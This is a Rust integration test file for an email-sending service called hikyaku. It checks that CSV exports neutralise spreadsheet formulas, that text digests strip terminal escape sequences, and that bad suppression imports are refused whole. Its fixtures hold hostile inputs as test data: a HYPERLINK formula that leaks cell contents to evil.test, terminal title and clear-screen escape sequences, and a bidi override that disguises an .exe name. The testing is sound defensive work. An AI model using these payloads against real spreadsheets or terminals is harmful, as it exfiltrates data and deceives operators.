//! What hikyaku writes for operators and customers to open is inert: every CSV it produces —
//! the error digest, campaign reports, suppression exports through the API and the CLI —
//! neutralises cells a spreadsheet would run as a formula (OWASP: a cell starting with `=`,
//! `+`, `-`, `@`, tab or CR gets a leading `'` and is quoted), and an export imports back as it
//! was; the text digest shows remote replies without the escape sequences and control
//! characters they arrived with; and a suppression import with one bad row (an address that is
//! not one, a reason with control or invisible formatting characters) is refused whole, naming
//! the line and the field, storing nothing — through the API and the CLI alike.

use axum::http::{Method, StatusCode};
use chrono::{Duration, Utc};
use hikyaku_api::admin::{digest, report, Ctx};
use hikyaku_tests::api::{Cli, TestApi};
use hikyaku_tests::redis::TestRedis;
use serde_json::json;

const CLI: &str = env!("CARGO_BIN_EXE_hikyaku-under-test");

/// The records of `csv` (RFC 4180: quoted fields, doubled quotes, line breaks inside quotes).
fn parse_csv(csv: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            '"' if quoted => quoted = false,
            '"' if field.is_empty() => quoted = true,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            _ => field.push(c),
        }
    }
    assert!(!quoted, "unterminated quote in\n{csv}");
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

/// No cell of `csv` starts with what a spreadsheet takes for a formula.
fn assert_inert(what: &str, csv: &str) {
    for row in parse_csv(csv) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: cell {cell:?} would run as a formula:\n{csv}"
            );
        }
    }
}

/// No control character but the line break, no escape sequence's leftovers.
fn assert_terminal_safe(what: &str, text: &str) {
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control()),
            "{what}: control character {c:?} in\n{text:?}"
        );
    }
    for leftover in ["]0;", "[2J", "[31m"] {
        assert!(
            !text.contains(leftover),
            "{what}: escape sequence leftover {leftover:?} in\n{text:?}"
        );
    }
}

async fn count_suppressions(api: &TestApi) -> i64 {
    let (n,): (i64,) = sqlx::query_as("SELECT count(*) FROM suppressions")
        .fetch_one(&api.state.db)
        .await
        .expect("count");
    n
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_digest_neutralises_formulas_and_shows_replies_without_escape_sequences() {
    let redis = TestRedis::start();
    let api = TestApi::start(&redis).await;
    let now = Utc::now();
    // A deferral whose reply is a formula, from a site and MX host named like formulas…
    sqlx::query(
        "INSERT INTO deferral_events (campaign_id, seq, attempt, tenant_id, reason, code, enhanced, \
         detail, site, mx, rcpt, at) VALUES (1, 1, 1, $1, 'throttled', 0, '', $2, $3, $4, 'a@b.test', $5)",
    )
    .bind(api.tenant)
    .bind("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")")
    .bind("+site")
    .bind("@mx.evil.test")
    .bind(now)
    .execute(&api.state.db)
    .await
    .expect("deferral");
    // …and a bounce whose reply carries terminal escape sequences and C1/DEL characters.
    sqlx::query(
        "INSERT INTO delivery_events (campaign_id, seq, attempt, tenant_id, status, reason, code, \
         enhanced, detail, site, mx, rcpt, queued_at, at) \
         VALUES (1, 2, 1, $1, 'bounced', 'bad-mailbox', 550, '5.1.1', $2, $3, $4, 'c@d.test', $5, $5)",
    )
    .bind(api.tenant)
    .bind("550 5.1.1 \u{1b}]0;pwned\u{7}\u{1b}[2Juser\u{9b}31m unknown\u{7f} -1+1")
    .bind("-site\u{1b}[31m")
    .bind("mx\u{1b}[31m.test")
    .bind(now)
    .execute(&api.state.db)
    .await
    .expect("bounce");

    let ctx = Ctx::from_state(api.state.clone());
    let d = digest::build(&ctx, now - Duration::hours(1), now + Duration::hours(1))
        .await
        .expect("digest");
    assert_eq!(d.total, 2);

    let csv = d.to_csv();
    assert_inert("digest CSV", &csv);
    let cells: Vec<String> = parse_csv(&csv).into_iter().flatten().collect();
    assert!(
        cells
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"),
        "the formula reply is kept, neutralised: {cells:?}"
    );
    assert!(cells.iter().any(|c| c == "'+site=1"), "{cells:?}");

    let text = d.to_text();
    assert_terminal_safe("digest text", &text);
    assert!(text.contains("user") && text.contains("unknown"), "{text}");
    assert!(text.contains("-site"), "the site is still named: {text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reports_and_suppression_exports_neutralise_formulas_and_import_back_unchanged() {
    let redis = TestRedis::start();
    let api = TestApi::start(&redis).await;
    let cli = Cli::new(CLI, &api, &redis);
    let ctx = Ctx::from_state(api.state.clone());

    // A campaign report with a site named like a formula.
    let list = api.list_with_csv("email\na@b.test\n").await;
    let cid = api.create_campaign(list, "hello").await;
    let now = Utc::now();
    sqlx::query(
        "INSERT INTO delivery_events (campaign_id, seq, attempt, tenant_id, status, reason, code, \
         enhanced, detail, site, mx, rcpt, queued_at, at) \
         VALUES ($1, 1, 1, $2, 'delivered', '', 250, '2.0.0', 'ok', '=1+2', 'mx.test', 'a@b.test', $3, $3)",
    )
    .bind(cid)
    .bind(api.tenant)
    .bind(now)
    .execute(&api.state.db)
    .await
    .expect("event");
    let csv = report::build(&ctx, cid).await.expect("report").to_csv();
    assert_inert("report CSV", &csv);
    assert!(csv.contains("\"'=1+2\","), "{csv}");
    let (code, out, err) = cli.run(&["campaign", "report", &cid.to_string()]);
    assert_eq!(code, 0, "{err}");
    assert_inert("report CSV from the CLI", &out);

    // Suppressions whose address and reason look like formulas.
    let rows = [
        ("=cmd@evil.test", "@SUM(1+1)"),
        ("+1@evil.test", "-2+3"),
        ("-x@evil.test", "manual"),
        ("'=q@evil.test", "'plain"),
        ("plain@evil.test", "complaint"),
    ];
    for (email, reason) in rows {
        let (s, body) = api
            .json(
                Method::POST,
                "/v1/suppressions",
                json!({"email": email, "reason": reason}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{email}: {body}");
    }
    let stored = || async {
        let v: Vec<(String, String)> =
            sqlx::query_as("SELECT email_lower, reason FROM suppressions ORDER BY email_lower")
                .fetch_all(&api.state.db)
                .await
                .expect("rows");
        v
    };
    let before = stored().await;
    assert_eq!(before.len(), rows.len());

    let (s, ct, _) = api
        .call(Method::GET, "/v1/suppressions/export", Some(&api.key), None)
        .await;
    assert_eq!((s, ct.starts_with("text/csv")), (StatusCode::OK, true));
    // The body is CSV, not JSON: fetch it raw.
    let req = axum::http::Request::builder()
        .uri("/v1/suppressions/export")
        .header("authorization", format!("Bearer {}", api.key))
        .body(axum::body::Body::empty())
        .expect("request");
    let resp = tower::ServiceExt::oneshot(api.router.clone(), req)
        .await
        .expect("infallible");
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20)
        .await
        .expect("body");
    let api_csv = String::from_utf8(bytes.to_vec()).expect("utf8");
    assert_inert("suppression export (API)", &api_csv);
    let (code, cli_csv, err) = cli.run(&[
        "suppressions",
        "export",
        "--tenant",
        &api.tenant.to_string(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert_inert("suppression export (CLI)", &cli_csv);
    assert_eq!(api_csv, cli_csv, "one writer for both");

    // The export imports back as it was, through the API and through the CLI.
    sqlx::query("DELETE FROM suppressions")
        .execute(&api.state.db)
        .await
        .expect("clear");
    let (s, _, r) = api
        .call(
            Method::POST,
            "/v1/suppressions/import",
            Some(&api.key),
            Some(("text/csv", api_csv.clone().into_bytes())),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(stored().await, before, "API import of the export");
    sqlx::query("DELETE FROM suppressions")
        .execute(&api.state.db)
        .await
        .expect("clear");
    let file = std::env::temp_dir().join(format!(
        "hikyaku-injection-{}-{}.csv",
        std::process::id(),
        redis.port
    ));
    std::fs::write(&file, &cli_csv).expect("file");
    let (code, _, err) = cli.run(&[
        "suppressions",
        "import",
        "--tenant",
        &api.tenant.to_string(),
        file.to_str().expect("utf8"),
    ]);
    let _ = std::fs::remove_file(&file);
    assert_eq!(code, 0, "{err}");
    assert_eq!(stored().await, before, "CLI import of the export");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_suppression_import_with_one_bad_row_is_refused_whole_naming_line_and_field() {
    let redis = TestRedis::start();
    let api = TestApi::start(&redis).await;
    let cli = Cli::new(CLI, &api, &redis);
    let cases: [(&str, &str, &str); 4] = [
        (
            "an address that is none",
            "email,reason\ngood1@x.test,manual\nnot-an-address,manual\ngood2@x.test\n",
            "email",
        ),
        (
            "an escape sequence in a reason",
            "email,reason\ngood1@x.test,manual\ngood3@x.test,\u{1b}]0;owned\u{7}\ngood2@x.test\n",
            "reason",
        ),
        (
            "a bidi override in a reason",
            "email,reason\ngood1@x.test,manual\ngood3@x.test,fine\u{202e}txt.exe\ngood2@x.test\n",
            "reason",
        ),
        (
            "a control character in an address",
            "email,reason\ngood1@x.test,manual\ngood\u{7f}3@x.test,manual\ngood2@x.test\n",
            "email",
        ),
    ];
    for (what, body, field) in cases {
        let (s, ct, problem) = api
            .call(
                Method::POST,
                "/v1/suppressions/import",
                Some(&api.key),
                Some(("text/csv", body.as_bytes().to_vec())),
            )
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {problem}");
        assert_eq!(ct, "application/problem+json", "{what}");
        assert_eq!(problem["field"], field, "{what}: {problem}");
        assert!(
            problem["detail"]
                .as_str()
                .is_some_and(|d| d.contains("line 3")),
            "{what}: the line is named: {problem}"
        );
        assert_eq!(count_suppressions(&api).await, 0, "{what}: nothing stored");

        let file = std::env::temp_dir().join(format!(
            "hikyaku-bad-import-{}-{}.csv",
            std::process::id(),
            redis.port
        ));
        std::fs::write(&file, body).expect("file");
        let (code, out, err) = cli.run(&[
            "suppressions",
            "import",
            "--tenant",
            &api.tenant.to_string(),
            file.to_str().expect("utf8"),
        ]);
        let _ = std::fs::remove_file(&file);
        assert_eq!(code, 2, "{what}: bad input is exit 2: {out}{err}");
        assert!(
            err.contains("line 3") && err.contains(field),
            "{what}: the CLI names line and field: {err}"
        );
        assert_terminal_safe("CLI error", &err);
        assert_eq!(count_suppressions(&api).await, 0, "{what}: nothing stored");
    }
    let feed: u64 = redis::cmd("XLEN")
        .arg(hikyaku_queue_schema::Keys::suppressed())
        .query_async(&mut redis.con().await)
        .await
        .expect("xlen");
    assert_eq!(feed, 0, "nothing published to the engines either");
}
